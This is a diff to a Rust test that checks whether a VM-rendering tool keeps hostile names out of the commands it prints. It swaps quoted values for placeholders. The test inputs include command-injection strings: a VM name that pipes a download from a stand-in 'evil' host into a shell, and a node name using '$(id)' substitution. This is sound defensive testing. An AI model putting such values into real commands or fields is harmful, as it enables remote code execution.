@@ -47,13 +47,13 @@ fn objects_that_contradict_each_other_are_told_as_text() {
 }
 
 #[test]
-fn a_name_in_a_command_is_one_word() {
+fn a_text_that_is_no_name_is_in_no_command() {
     let mut vms = sample::vms();
     vms[0].vm_name = "x; curl evil | sh".into();
     vms[0].summary.node = "$(id)".into();
     let text = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources())).text();
-    assert!(text.contains("get virtualmachineinstance 'x; curl evil | sh' -o yaml"), "{text}");
-    assert!(text.contains("/api/v1/nodes/'$(id)'/proxy"), "{text}");
+    assert!(text.contains("get virtualmachineinstance NAME -o yaml"), "{text}");
+    assert!(text.contains("/api/v1/nodes/NODE/proxy"), "{text}");
 }
 
 #[test]
